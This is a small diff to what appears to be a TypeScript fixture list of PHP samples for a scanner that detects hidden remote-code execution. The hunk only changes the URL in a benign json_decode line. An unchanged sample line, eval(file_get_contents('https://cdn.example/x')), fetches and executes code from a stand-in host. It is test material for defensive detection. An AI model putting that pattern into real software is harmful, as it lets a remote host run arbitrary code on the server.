@@ -70,7 +70,7 @@ export const phpSamples: readonly Sample[] = [
     "eval-hidden",
     "code from the network",
     "eval(file_get_contents('https://cdn.example/x'));",
-    "$config = json_decode(file_get_contents('https://cdn.example/x'));",
+    "$config = json_decode(file_get_contents('https://api.pay.example/x'));",
   ),
   php(
     "eval-hidden",
